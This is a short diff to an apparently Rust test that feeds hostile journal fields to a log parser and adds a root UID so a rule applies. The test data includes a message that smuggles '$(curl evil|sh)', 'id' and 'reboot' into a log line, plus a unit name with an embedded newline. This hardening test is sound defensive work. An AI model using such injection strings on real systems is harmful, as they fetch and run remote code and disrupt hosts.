@@ -153,6 +153,8 @@ fn hostile_fields_neither_crash_nor_reach_incident_unit() {
     svc.extend(text("__MONOTONIC_TIMESTAMP", &((t0 + 22 * step) % 1_000_000_000_000).to_string()));
     svc.extend(text("_BOOT_ID", BOOT_A));
     svc.extend(text("_PID", "4242"));
+    // A system service's process (root), so the rule applies and the hostile unit is tested.
+    svc.extend(text("_UID", "0"));
     svc.extend(binary("_SYSTEMD_UNIT", b"evil\n.service"));
     svc.extend(text("MESSAGE", "TLS: certificate has expired; $(curl evil|sh) `id` && reboot"));
     svc.extend(binary("X_HUGE", &vec![b'\n'; 1 << 20]));
